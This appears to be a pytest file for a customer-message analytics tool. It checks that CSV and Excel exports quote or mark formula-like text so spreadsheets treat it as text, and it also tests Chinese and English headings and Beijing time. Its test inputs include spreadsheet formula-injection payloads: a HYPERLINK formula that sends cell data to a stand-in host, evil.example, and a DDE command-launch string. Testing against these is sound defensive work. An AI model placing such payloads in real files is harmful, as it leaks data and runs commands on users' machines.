"""Exports: CSV and Excel that spreadsheets read as text, never as formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from radar.i18n import Locale
from radar.localtime import zone
from radar.store.exports import (
    Sheet,
    csv_bytes,
    formula_safe,
    message_sheet,
    sheet_title,
    xlsx_bytes,
)

BEIJING = zone("Asia/Shanghai")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"怎么退款？")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
AT = datetime(2026, 11, 20, 16, 30, tzinfo=UTC)  # 00:30 on the 21st in Beijing


def sheet(texts: list[str]) -> Sheet:
    rows = [
        {"text": t, "at": AT, "n": i, "topics": ["物流配送", "破损"]} for i, t in enumerate(texts)
    ]
    return Sheet("消息", [("text", "内容"), ("at", "时间"), ("n", "n"), ("topics", "话题")], rows)


class TestCsv:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_formula_like_text_is_quoted(self, text: str) -> None:
        assert formula_safe(text) == "'" + text
        rows = list(csv.reader(io.StringIO(csv_bytes(sheet([text]), BEIJING).decode("utf-8-sig"))))
        assert rows[1][0] == "'" + text

    def test_plain_text_numbers_times_and_lists(self) -> None:
        data = csv_bytes(sheet(["快递三天没到"]), BEIJING)
        assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert rows == [
            ["内容", "时间", "n", "话题"],
            ["快递三天没到", "2026-11-21 00:30:00", "0", "物流配送、破损"],
        ]
        assert formula_safe(-3) == -3  # numbers are numbers


class TestExcel:
    def test_formula_like_text_stays_text(self) -> None:
        texts = [*HOSTILE, "#N/A", "普通的话"]
        book = load_workbook(io.BytesIO(xlsx_bytes([sheet(texts)], BEIJING)))
        rows = list(book["消息"].iter_rows(min_row=2))
        for row, text in zip(rows, texts, strict=True):
            cell = row[0]
            assert cell.data_type == "s", text
            # kept as written, no quote added (XML reads a carriage return as a line feed)
            assert cell.value == text.replace("\r", "\n")
            assert bool(cell.quotePrefix) == (text != "普通的话"), text
        assert rows[0][1].value == datetime(2026, 11, 21, 0, 30)  # local wall-clock time
        assert rows[0][2].value == 0 and rows[0][3].value == "物流配送、破损"

    def test_characters_xml_cannot_hold_are_dropped_and_long_cells_cut(self) -> None:
        texts = ["退款\x00\x07\x1b到了吗", "长" * 40_000]
        book = load_workbook(io.BytesIO(xlsx_bytes([sheet(texts)], BEIJING)))
        cells = [row[0].value for row in book.active.iter_rows(min_row=2)]
        assert cells[0] == "退款到了吗"
        assert len(cells[1]) == 32_767

    def test_several_sheets_with_names_excel_takes(self) -> None:
        sheets = [sheet(["a"]), Sheet("证据/窗口:[1]", [("x", "x")], [{"x": 1}]), sheet(["b"])]
        book = load_workbook(io.BytesIO(xlsx_bytes(sheets, BEIJING)))
        assert book.sheetnames == ["消息", "证据_窗口__1_", "消息_2"]
        assert sheet_title("x" * 40, set()) == "x" * 31


class TestMessages:
    def test_headings_and_values_in_the_readers_language(self) -> None:
        row = {
            "created_at": AT,
            "channel": "chat",
            "stage": "aftersale",
            "is_complaint": True,
            "sentiment_label": "neg",
            "text": "=1+1",
        }
        fields = ["created_at", "channel", "stage", "is_complaint", "sentiment_label", "text"]
        zh = message_sheet([row], Locale.of("zh"), fields)
        lines = list(csv.reader(io.StringIO(csv_bytes(zh, BEIJING).decode("utf-8-sig"))))
        assert lines[0] == ["时间（北京时间）", "渠道", "阶段", "投诉", "情感", "内容"]
        assert lines[1] == ["2026-11-21 00:30:00", "在线客服", "售后", "是", "负面", "'=1+1"]
        en = message_sheet([row], Locale.of("en"), fields)
        lines = list(csv.reader(io.StringIO(csv_bytes(en, BEIJING).decode("utf-8-sig"))))
        assert lines[0][:4] == ["Time (Beijing time)", "Channel", "Stage", "Complaint"]
        assert lines[1][3] == "yes"
